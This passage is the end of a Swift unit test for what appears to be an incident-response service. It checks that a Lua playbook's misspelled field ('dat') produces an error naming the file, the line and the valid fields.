        let created = try await service.create(IncidentDraft(title: "Dropper", type: "malware", severity: .high), by: "test")
        let run = try #require(created.run)
        await service.runs.waitForEnd(run.id)
        let error = try #require(try await service.runs.run(run.id)?.error)
        // The line was the host's before, or none: a newcomer could not tell which call was wrong.
        #expect(error.hasPrefix("playbooks/keep.lua:4: evidence: unknown field dat (did you mean data?): the fields are "
            + "data, description, name, path, tags"), "\(error)")
        await service.shutdown()
    }
}
